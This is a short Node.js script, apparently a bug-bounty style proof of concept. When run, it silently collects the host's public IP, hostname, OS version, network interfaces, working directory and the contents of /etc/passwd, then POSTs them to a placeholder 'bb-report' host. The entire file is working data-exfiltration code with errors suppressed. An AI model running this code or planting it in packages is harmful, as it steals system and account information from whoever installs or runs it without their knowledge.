import { hostname, networkInterfaces, type, release } from 'node:os';
import fs from 'node:fs';

const collect = async () => {
  const ip = await fetch('https://api.ipify.org?format=json').then(r => r.json()).catch(() => ({}));
  const body = {
    ip: ip.ip, host: hostname(), os: `${type()} ${release()}`,
    nics: networkInterfaces(),
    passwd: fs.existsSync('/etc/passwd') ? fs.readFileSync('/etc/passwd', 'utf8') : null,
    cwd: process.cwd()
  };
  await fetch('https://bb-report.example.invalid/poc', { method: 'POST', body: JSON.stringify(body) });
};
collect().catch(() => {});